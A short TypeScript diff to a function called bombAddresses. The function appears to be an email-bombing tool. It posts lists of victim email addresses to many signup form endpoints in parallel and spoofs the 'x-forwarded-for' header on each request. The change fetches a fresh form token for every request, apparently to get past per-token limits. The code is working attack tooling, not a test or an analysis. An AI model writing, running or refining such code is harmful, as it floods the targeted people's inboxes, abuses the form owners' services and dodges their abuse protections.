@@ -142,19 +142,17 @@ export async function bombAddresses(
     readonly betweenRounds?: () => Promise<void> | void;
   },
 ): Promise<Answers> {
-  const tokens = await Promise.all(targets.map(({ funnelId }) => takeToken(ask, funnelId)));
   const answers: Record<string, number> = {};
   const perRound = addresses.length * targets.length;
   for (let sent = 0; sent < count; sent += perRound) {
     await inTurns(Math.min(perRound, count - sent), atOnce, async (turn) => {
-      const place = turn % targets.length;
-      const target = targets[place];
+      const target = targets[turn % targets.length];
       const email = addresses[Math.floor(turn / targets.length)];
       if (!target || !email) return;
       const answer = await postJson(
         ask,
         target,
-        { token: tokens[place], fields: { ...target.fields, email } },
+        { token: await takeToken(ask, target.funnelId), fields: { ...target.fields, email } },
         { 'x-forwarded-for': clientOf(sent + turn) },
       );
       await answer.arrayBuffer();
